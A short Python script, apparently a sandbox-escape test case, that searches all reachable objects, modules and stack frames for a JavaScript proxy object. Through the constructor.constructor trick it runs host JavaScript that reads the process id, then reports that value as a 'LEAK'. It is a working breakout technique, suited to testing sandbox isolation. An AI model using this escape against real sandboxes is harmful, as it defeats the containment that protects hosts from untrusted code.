# leak: searches every object, module, closure and frame for a proxy of a JavaScript object and runs code through it. Escape: LEAK with the process id.
import gc
import sys

pool = list(gc.get_objects())
for module in list(sys.modules.values()):
    pool.extend(getattr(module, '__dict__', {}).values())
frame = sys._getframe()
while frame:
    pool.extend(frame.f_locals.values())
    pool.extend(frame.f_globals.values())
    frame = frame.f_back
for thing in list(pool):
    pool.extend(gc.get_referents(thing))
for thing in pool:
    if type(thing).__name__.startswith('Js') and not isinstance(thing, type):
        try:
            value = thing.constructor.constructor('return process.pid')()
        except Exception:
            continue
        raise Exception('LEAK:' + str(value))
